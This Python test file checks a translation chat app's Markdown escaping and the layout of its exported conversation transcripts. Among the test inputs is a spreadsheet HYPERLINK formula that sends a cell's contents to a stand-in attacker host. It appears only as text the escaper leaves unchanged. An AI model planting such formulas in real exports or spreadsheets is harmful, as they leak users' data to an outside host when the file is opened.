"""Markdown that reads as the text it shows (``hymt_chat/text/markdown_text.py``): a mark is
escaped only where Markdown would otherwise change what is shown, and the exported
``transcript.md`` of a person's data reads as conversations, not as the chat's escapes."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from hymt_chat.modes import profiles
from hymt_chat.modes.agent.conversation import Conversation, Turn
from hymt_chat.modes.profiles import saved_markdown
from hymt_chat.modes.wording import escape_markdown, literal_block
from hymt_chat.service.erasure import Subject
from hymt_chat.service.export import transcript
from hymt_chat.text.markdown_text import as_markdown, tidy_escapes


@pytest.mark.parametrize(("text", "written"), [
    # what Markdown takes for its own: escaped
    ("# not a heading", "\\# not a heading"),
    ("> not a quote", "\\> not a quote"),
    ("- not a list\n+ nor this\n* nor this", "\\- not a list  \n\\+ nor this  \n\\* nor this"),
    ("1. not numbered\n2) nor this", "1\\. not numbered  \n2\\) nor this"),
    ("---", "\\---"),
    ("Title\n===", "Title  \n\\==="),
    ("*bold* and _it_ and ~gone~", "\\*bold\\* and \\_it\\_ and \\~gone\\~"),
    ("`code`", "\\`code\\`"),
    ("[a link](http://x)", "\\[a link](http://x)"),
    ("<b>bold</b> & &amp;", "\\<b>bold\\</b> & \\&amp;"),
    ("a | b\n--|--\nc | d", "a \\| b  \n--\\|--  \nc \\| d"),  # no table
    ("C:\\*not bold*", "C:\\\\\\*not bold\\*"),
    # what it reads as itself: as written
    ("Agent: English ⇄ Customer: Spanish", "Agent: English ⇄ Customer: Spanish"),
    ("Total: 12.50 € (VAT incl.)! Order #4411 - ok? 50% off + 2 = 3", None),
    ("snake_case_name, 5 * 3, a ~ b, one * here", None),
    ("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", None),
    ("C:\\Users\\anna", None),
    ("[not translated", None),  # no closing bracket: no link
    ("您好，我的订单号是JD123456789。", None),
    # lines kept as lines, paragraphs as paragraphs, indentation dropped (a code block)
    ("one\r\ntwo\n\n\n    three", "one  \ntwo\n\nthree"),
])
def test_a_text_is_escaped_only_where_markdown_would_change_it(text, written):
    assert as_markdown(text) == (text if written is None else written)


def test_the_apps_markdown_loses_the_escapes_that_change_nothing():
    banner = f"**{escape_markdown('Agent: English ⇄ Customer: Spanish')}**"
    assert "\\:" in banner
    assert tidy_escapes(banner) == "**Agent: English ⇄ Customer: Spanish**"
    meta = f"*{escape_markdown('Customer · Spanish → English · 1.2 s')}*"
    assert tidy_escapes(meta) == "*Customer · Spanish → English · 1.2 s*"
    # needed ones stay: a numbered line, a tag, a link, emphasis inside a text
    needed = escape_markdown("1. <b> [x](y) *a* b")
    assert tidy_escapes(needed) == "1\\. \\<b> \\[x](y) \\*a\\* b"
    # a code block is the text itself: its backslashes are left alone
    block = literal_block("a\\: b *x*")
    assert tidy_escapes(f"{escape_markdown('Note:')}\n\n{block}") == f"Note:\n\n{block}"


def test_the_exported_transcript_reads_as_conversations():
    t0 = datetime(2025, 3, 1, 9, 30, 5, tzinfo=UTC)
    conv = Conversation("en", "es", started=t0)
    conv.add_turn(Turn(t0, "customer", "Mi paquete no ha llegado: pedido 4411.", "es",
                       "My parcel has not arrived: order 4411.", "en"))
    agent_thread = {
        "name": "Customer in Spanish: Mi paquete no ha llegado", "createdAt": "2025-03-01",
        "metadata": {profiles.AGENT_STATE: conv.to_dict()},
        "steps": [{"type": "assistant_message", "name": "Assistant", "createdAt": "t",
                   "output": f"**{escape_markdown('Agent: English ⇄ Customer: Spanish')}**"}]}
    translator_thread = {
        "name": "Bonjour à tous", "createdAt": "2025-03-02", "metadata": {},
        "steps": [
            {"type": "user_message", "name": "anna", "createdAt": "2025-03-02T10:00:00",
             "output": "Bonjour à tous: *merci*."},
            {"type": "assistant_message", "name": "Assistant", "createdAt": "2025-03-02T10:00:01",
             "output": literal_block("Hello everyone: *thanks*.") + "\n\n*"
             + escape_markdown("French → English · 0.8 s") + "*"}]}
    md = transcript(Subject("text", "pedido 4411"), [agent_thread, translator_thread],
                    conversation=saved_markdown)
    assert "\\:" not in md and "\\." not in md  # no escape that changes nothing
    # the agent's thread: its conversation, not its steps (nor the banner's escapes)
    assert "## Customer in Spanish: Mi paquete no ha llegado (2025-03-01)" in md
    assert "### Support conversation" in md and "#### 09:30:05 · Customer · Spanish" in md
    assert "Mi paquete no ha llegado: pedido 4411." in md
    assert "> English: My parcel has not arrived: order 4411." in md
    # another thread: its messages under who said them, as typed and as the app showed them
    assert "### 2025-03-02T10:00:00 · anna\n\nBonjour à tous: \\*merci\\*." in md
    assert "*French → English · 0.8 s*" in md and "Hello everyone: *thanks*." in md
